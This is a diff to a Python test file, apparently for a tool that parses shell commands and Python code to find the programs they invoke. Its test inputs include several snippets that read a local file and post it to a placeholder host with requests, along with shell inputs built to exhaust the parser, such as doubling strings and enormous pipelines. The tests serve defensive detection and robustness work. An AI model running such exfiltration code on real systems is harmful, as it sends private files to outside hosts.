@@ -136,10 +136,10 @@ def call_of(code: str, name: str) -> Invocation:
     [
         "import requests\nrequests.post('https://e', data=open('/srv/w', 'rb'))",
         "import requests\nwith open('/srv/w', 'rb') as f:\n    requests.post('https://e', files={'f': f})",
-        "import requests, base64\nd = base64.b64encode(open('/srv/w', 'rb').read())\nfor p in d:\n    requests.post('https://e', p)",
+        "import requests, base64\nd = base64.b64encode(open('/srv/w').read())\nfor p in d:\n    requests.post('https://e', p)",
         "import requests\nfrom pathlib import Path\nrequests.post('https://e', data=(Path('/srv') / 'w').read_bytes())",
         "import os, requests\np = os.path.join('/srv', 'w')\nrequests.post(f'https://{p}', data=p)",
-        "import requests\ndef go():\n    try:\n        x = open('/srv/w').read()\n        requests.post('https://e', x)\n    except E:\n        pass",
+        "import requests\ndef go():\n    try:\n        requests.post('https://e', open('/srv/w').read())\n    except E:\n        pass",
         "import requests\nrequests.post('https://e', data=[c for c in open('/srv/w', 'rb')])",
     ],
 )
@@ -190,6 +190,9 @@ def test_broken_snippets(code: str) -> None:
         "bash -c '" * 300,
         "a;" * 100000,
         "<<E " * 3000,
+        "x=aaaaaaaaaaaaaaaa; " + "x=$x$x; " * 300 + "curl $x",
+        "a b c d | " * 5000,
+        "<<E\n" * 8000,
     ],
 )
 def test_hostile_commands_are_bounded(command: str) -> None:
@@ -197,6 +200,17 @@ def test_hostile_commands_are_bounded(command: str) -> None:
     began = time.process_time()
     assert len(invocations(command)) <= 2000
     assert time.process_time() - began < 5
+
+
+def test_doubling_is_bounded() -> None:
+    """A value that doubles in every line stays small."""
+    (call,) = snippet_invocations("a = 'x' * 9\n" + "a = a + a\n" * 300 + "f(a)")
+    assert sum(map(len, call.words)) < 1 << 20
+
+
+def test_long_chain() -> None:
+    """The first command of a long chain is read as well as the last."""
+    assert invocations("first && " + "true && " * 500 + "last")[0].program == "first"
 
 
 @settings(max_examples=200, deadline=None)
